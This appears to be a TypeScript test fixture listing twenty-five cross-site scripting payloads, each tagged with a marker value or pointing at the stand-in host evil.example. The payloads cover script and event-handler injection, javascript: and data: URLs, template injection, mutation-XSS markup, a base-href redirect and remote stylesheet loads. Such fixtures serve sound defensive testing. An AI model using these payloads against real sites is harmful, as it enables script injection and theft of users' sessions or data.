export interface Payload {
  name: string;
  /** Marks itself in `window.__xss`, or asks evil.example for something. */
  text: string;
}

const payload = (name: string, text: string): Payload => ({ name, text });

/** Where what a payload asks for would go; nothing is there. */
export const foreignHost = "evil.example";

/** Twenty-five ways out of the words and into the page; short, as some places take a hundred characters. */
export const payloads: Payload[] = [
  payload("a script", "<script>__xss=1</script>"),
  payload("a script behind an attribute", `"><script>__xss=2</script>`),
  payload("a picture that fails", "<img src=x onerror=__xss=3>"),
  payload("a picture behind a single quote", `'><img src=x onerror='__xss=4'>`),
  payload("a drawing", "<svg/onload=__xss=5>"),
  payload("a script in a drawing", "<svg><script>__xss=6</script></svg>"),
  payload("an attribute that is a handler", `" autofocus onfocus="__xss=7" x="`),
  payload("a handler behind a single quote", `' onmouseover='__xss=8' x='`),
  payload("an address that is a script", "javascript:__xss=9"),
  payload("a link in Markdown", "[here](javascript:__xss=10)"),
  payload("a picture in Markdown", "![x](https://evil.example/p.png?q=11)"),
  payload("a picture from elsewhere", "<img src=https://evil.example/p12.png>"),
  payload("a page in an address", "data:text/html,<script>top.__xss=13</script>"),
  payload("a page in a frame", `<iframe srcdoc="<script>top.__xss=14</script>"></iframe>`),
  payload("a template literal", "`$\u007b__xss=15}` $\u007b__xss=15}"),
  payload("a template of Angular and Vue", "{{constructor.constructor('__xss=16')()}}"),
  payload("a template of the server's", "<%= __xss=17 %> #{__xss=17} {% __xss=17 %}"),
  payload("the end of a script within JSON", `"}</script><script>__xss=18</script>`),
  payload("the end of title, text area and style", "</title></textarea></style><img src=x onerror=__xss=19>"),
  payload(
    "markup that changes when read twice",
    `<svg></p><style><a id="</style><img src=1 onerror=__xss=20>">`,
  ),
  payload("markup without scripts", `<noscript><p title="</noscript><img src=x onerror=__xss=21>">`),
  payload(
    "another base for addresses",
    `<base href=//evil.example><meta http-equiv=refresh content=0;//evil.example>`,
  ),
  payload("markup already escaped", "&lt;img src=x onerror=__xss=23&gt; &#60;svg onload=__xss=23&#62;"),
  payload(
    "a style from elsewhere",
    `<style>@import "//evil.example/24";</style><link rel=stylesheet href=//evil.example/24>`,
  ),
  payload("names that objects have", "__proto__"),
];
